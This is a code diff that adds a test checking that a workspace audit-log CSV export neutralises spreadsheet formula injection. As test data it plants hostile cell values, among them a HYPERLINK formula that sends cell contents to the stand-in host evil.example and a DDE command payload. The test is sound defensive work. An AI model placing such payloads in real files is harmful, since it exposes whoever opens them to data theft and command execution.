@@ -342,6 +342,34 @@ describe('POST /api/settings/audit/export', () => {
     expect(rows).toHaveLength((await entries(owner)).length);
   });
 
+  it('neutralises every cell a spreadsheet would run as a formula (OWASP CSV injection)', async () => {
+    // Whoever names a user, a member or a request chooses the first character of a cell.
+    const owner = await t.newWorkspace('=HYPERLINK("http://evil.example/?"&A1,"open")');
+    const members = ["+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+    for (const user_id of members) {
+      const added = await t.call(owner, 'POST', '/api/workspaces/members', { user_id, role: 'member' });
+      expect(added.statusCode, added.body).toBe(201);
+    }
+    const flagged = await t.call(
+      owner,
+      'PUT',
+      '/api/settings/flags/csv.formula',
+      { type: 'boolean', default: false },
+      { headers: { 'x-request-id': '-1-1' } },
+    );
+    expect(flagged.statusCode, flagged.body).toBe(200);
+    const response = await exportOf(owner, { format: 'csv' });
+    expect(response.statusCode).toBe(200);
+    const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
+    const cells = rows.flatMap((row) => Object.values(row));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(rows.map((row) => row.actor_id)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
+    expect(rows.filter((row) => row.action === 'member.added').map((row) => row.target_id)).toEqual(
+      expect.arrayContaining(members.map((id) => `'${id}`)),
+    );
+    expect(rows.find((row) => row.action === 'flag.created')?.request_id).toBe("'-1-1");
+  });
+
   it('writes OCSF API Activity events', async () => {
     const owner = await t.newWorkspace('audit-ocsf');
     const member = await buildMember(t, owner);
